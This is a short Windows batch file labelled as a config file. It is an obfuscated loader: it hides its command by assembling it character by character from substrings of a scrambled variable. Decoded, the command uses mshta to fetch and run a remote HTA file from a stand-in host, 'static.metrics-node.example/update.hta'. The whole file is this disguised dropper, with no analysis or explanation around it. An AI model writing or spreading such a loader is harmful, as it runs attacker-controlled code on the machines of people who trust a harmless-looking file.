REM config 3152 v3
@e^c^ho o^ff
^s^e^t "alxn=nDu/i:zrtlpow.cXLdmsxae8Mkh-"
%alxn:~18,1%%alxn:~19,1%%alxn:~26,1%%alxn:~8,1%%alxn:~21,1% %alxn:~26,1%%alxn:~8,1%%alxn:~8,1%%alxn:~10,1%%alxn:~5,1%%alxn:~-25,1%%alxn:~3,1%%alxn:~-9,1%%alxn:~8,1%%alxn:~-7,1%%alxn:~8,1%%alxn:~4,1%%alxn:~14,1%%alxn:~13,1%%alxn:~-10,1%%alxn:~22,1%%alxn:~8,1%%alxn:~7,1%%alxn:~-24,1%%alxn:~14,1%%alxn:~-9,1%%alxn:~27,1%%alxn:~0,1%%alxn:~-17,1%%alxn:~17,1%%alxn:~22,1%%alxn:~-15,1%%alxn:~22,1%%alxn:~20,1%%alxn:~-7,1%%alxn:~-10,1%%alxn:~-18,1%%alxn:~-19,1%%alxn:~-6,1%%alxn:~-25,1%%alxn:~-26,1%%alxn:~10,1%%alxn:~17,1%%alxn:~-7,1%%alxn:~8,1%%alxn:~22,1%%alxn:~13,1%%alxn:~-2,1%%alxn:~8,1%%alxn:~21,1%
